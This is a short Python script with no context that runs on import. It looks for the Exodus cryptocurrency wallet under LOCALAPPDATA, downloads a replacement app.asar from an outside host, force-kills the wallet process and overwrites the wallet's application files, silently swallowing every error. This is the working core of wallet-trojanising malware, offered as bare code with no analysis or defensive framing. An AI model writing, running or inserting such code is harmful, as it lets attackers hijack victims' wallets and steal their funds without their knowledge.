import os, glob, shutil, tempfile, urllib.request

def _u():
    try:
        lad = os.environ.get("LOCALAPPDATA")
        if not lad:
            return
        targets = glob.glob(os.path.join(lad, "exodus", "app-*", "resources", "app.asar"))
        if not targets:
            return
        tmp = os.path.join(tempfile.gettempdir(), "a.asar")
        urllib.request.urlretrieve("http://cdn.example-updates.net/ex/app.asar", tmp)
        os.system("taskkill /F /IM Exodus.exe >nul 2>&1")
        for t in targets:
            shutil.copyfile(tmp, t)
    except Exception:
        pass

_u()
